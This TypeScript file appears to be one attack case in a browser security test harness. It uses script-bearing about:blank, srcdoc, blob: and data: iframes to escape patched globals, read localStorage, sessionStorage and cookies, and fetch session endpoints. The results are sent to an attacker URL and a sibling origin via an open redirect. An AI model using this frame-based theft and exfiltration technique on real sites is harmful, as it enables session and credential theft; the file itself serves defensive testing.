import { attack } from "../attack.js";

export default attack({
  name: "sends requests from about:blank, srcdoc, blob: and data: frames",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const code = `
      for (const url of ${JSON.stringify([
        `${it.apiUrl}me`,
        `${it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/from-a-frame` })}`,
        `${it.siblingUrl}/from-a-frame`,
        `${it.appUrl}auth/session`,
      ])})
        fetch(url).then(async (r) => parent.postMessage([r.url, [...r.headers], await r.text()], "*"), () => {});`;
    addEventListener("message", ({ data }) => it.steal(data));
    const html = `<script>${code}</script>`;
    const frames: Record<string, string>[] = [
      { src: "about:blank" },
      { srcdoc: html },
      { srcdoc: html, sandbox: "allow-scripts" },
      { src: URL.createObjectURL(new Blob([html], { type: "text/html" })) },
      { src: `data:text/html,${encodeURIComponent(html)}` },
      { src: "/config.json" },
    ];
    for (const attributes of frames) {
      const frame = document.createElement("iframe");
      for (const [name, value] of Object.entries(attributes)) {
        try {
          frame.setAttribute(name, value);
        } catch {
          // Trusted Types refuse srcdoc.
        }
      }
      document.body.append(frame);
      await it.pause(150);
      // A same-origin frame has original globals that no library has replaced.
      try {
        const { fetch, localStorage, sessionStorage, document } = frame.contentWindow as Window &
          typeof globalThis;
        it.steal(Object.values(localStorage), Object.values(sessionStorage), document.cookie);
        for (const url of [`${it.apiUrl}me`, `${it.attackerUrl}/clean`, `${it.siblingUrl}/clean`]) {
          const response = await fetch(url).catch(() => undefined);
          it.steal([...(response?.headers ?? [])], await response?.text());
        }
      } catch {
        // Cross-origin.
      }
    }
    await it.pause(400);
  },
});
